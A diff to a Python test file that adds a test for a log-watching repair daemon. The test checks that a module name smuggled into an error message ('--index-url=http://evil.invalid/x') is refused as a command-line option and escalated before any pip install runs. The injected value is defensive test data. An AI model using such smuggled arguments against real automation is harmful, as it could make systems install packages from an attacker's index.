@@ -7,6 +7,7 @@ notices, ``healer explain``, ``healer history``, the program's pid.
 
 from __future__ import annotations
 
+import sys
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -202,3 +203,27 @@ def test_the_daemon_leaves_a_running_program_alone_and_says_why(
     assert supervisor.pid() == pid
     notices = [line for line in daemon.log_text().splitlines() if '"kind": "refuted"' in line]
     assert len(notices) == 1 and "not fixing incident #1, the fault is not there: tcpserver is RUNNING" in notices[0]
+
+
+def test_a_hostile_value_is_escalated_by_the_probe_before_anyone_is_asked(tmp_path: Path) -> None:
+    pattern = {
+        "id": "missing-module",
+        "severity": "high",
+        "regex": r"No module named '(?P<module>[^']+)'",
+        "remediation": [{"action": "pip_install", "params": {"module": "{module}"}}],
+        "threshold": 1,
+        "approval": "ask",
+        "confirm": True,
+        "examples": ["No module named 'yaml'"],
+    }
+    pip = {"python": sys.executable, "allowed": ["PyYAML"]}
+    r = Rig(tmp_path, [pattern], actions={"pip_install": pip})
+    assert r.feed("ModuleNotFoundError: No module named '--index-url=http://evil.invalid/x'") == [None]
+    assert r.said(NoticeKind.APPROVAL) == []
+    [security] = r.said(NoticeKind.ESCALATION)
+    assert security.startswith(
+        "SECURITY: missing-module: pattern missing-module: parameter module refused the value"
+        " '--index-url=http://evil.invalid/x': looks like a command-line option."
+    ), security
+    assert "escalate (hostile_input)" in r.explain()
+    assert r.history().startswith("Fix attempts: 0 total")
